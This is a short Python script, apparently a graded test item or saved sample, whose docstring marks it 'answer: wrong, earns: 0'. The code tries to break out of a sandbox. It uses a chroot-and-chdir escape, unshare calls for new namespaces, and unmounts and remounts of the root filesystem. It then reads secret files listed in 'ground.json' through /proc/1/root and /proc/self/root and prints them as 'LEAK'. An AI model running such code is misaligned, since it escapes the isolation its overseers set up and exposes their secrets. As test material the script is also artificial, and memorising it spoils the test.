"""The old root folder is looked for by all the ways that have led out of cages.

answer: wrong
earns: 0
"""

import contextlib
import json
import os

with open("ground.json") as file:
    ground = json.load(file)

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("cage", exist_ok=True)
with contextlib.suppress(OSError):
    os.chroot("cage")
for _ in range(30):
    os.chdir("..")
print(
    libc.unshare(0x10000000),
    libc.unshare(0x00020000),
    libc.umount2(b"/", 2),
    libc.umount2(ground["course"].encode(), 2),
)
print(libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None), libc.mount(b"none", b"/", None, 32, None))
for path in ["/proc/1/root", "/proc/1/cwd", "/proc/self/root/.."]:
    for secret in ground["secrets"]:
        with contextlib.suppress(OSError), open(path + secret, "rb") as file:
            print("LEAK", file.read())
